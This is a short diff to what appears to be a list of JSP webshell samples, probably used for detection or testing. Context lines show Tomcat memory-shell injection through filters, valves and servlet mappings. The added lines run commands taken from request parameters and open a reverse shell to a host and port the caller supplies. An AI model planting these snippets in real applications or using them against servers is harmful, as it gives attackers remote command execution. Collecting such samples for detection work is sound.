@@ -14,3 +14,5 @@
 <% StandardContext ctx = (StandardContext) req.getContext(); FilterDef fd = new FilterDef(); fd.setFilter(f); ctx.addFilterDef(fd); %>
 <% StandardContext sc = (StandardContext) c.get(o); sc.getPipeline().addValve(v); %>
 <% org.apache.catalina.core.StandardContext s = x; s.addServletMappingDecoded("/x", "y"); %>
+<% String c = request.getParameter("c"); String[] a = isWin ? new String[]{"cmd", "/c", c} : new String[]{"/bin/bash", "-c", c}; Process p = Runtime.getRuntime().exec(a); %>
+<% java.net.Socket s = new java.net.Socket( request.getParameter("h"), Integer.parseInt(request.getParameter("p")) ); Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start(); %>
